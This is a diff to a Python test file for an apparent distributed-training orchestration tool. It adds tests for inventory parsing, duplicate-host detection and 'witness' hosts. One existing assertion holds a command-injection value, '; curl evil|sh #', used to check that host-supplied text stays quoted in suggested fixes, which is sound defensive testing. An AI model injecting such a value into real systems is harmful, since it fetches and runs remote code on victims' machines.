@@ -35,7 +35,7 @@ def found(
     """What is found where every host is fine but for what is given."""
     read = model.parse(text, "inventory.yaml")
     made = plan.make(read, run_id="R", name="R", command=("-u", "train.py", *arguments), code=None, env={}, debug=False)
-    names = [host.name for host in read.hosts]
+    names = [host.name for host in read.machines]
     fine = facts()
     identities = [
         {"codes": [], "boot_id": "b", "machine_id": "m", "state_inode": [1, number], "host": name}
@@ -437,3 +437,19 @@ def test_what_a_host_says_is_one_line_and_in_no_command_but_quoted(changed: dict
         for line in finding.fix.splitlines():
             for word in shlex.split(line.replace("`ddp-orch setup INVENTORY`", "")):
                 assert "curl evil" not in word or "; curl evil|sh #" in word, line
+
+
+WITNESSED = "hosts: [a, b]\nrun: {max_restarts: 3, witness: w}"
+
+
+def test_a_witness_needs_neither_torch_nor_gpus_nor_memory_for_ranks() -> None:
+    bare = {
+        "python": {"error": "python3 not found", "code": "remote-env-differs"},
+        "disks": {**facts()["disks"], "shm": {**disk("/dev/shm"), "free": 1}},
+    }
+    assert found(WITNESSED, {"a": with_gpus(), "b": with_gpus(), "w": bare}) == []
+
+
+def test_a_witness_on_the_machine_of_a_host_is_an_error() -> None:
+    (finding,) = found(WITNESSED, hellos={"w": {"state_inode": [1, 0]}})
+    assert brief([finding]) == [("error", "duplicate-host", ("w",))]
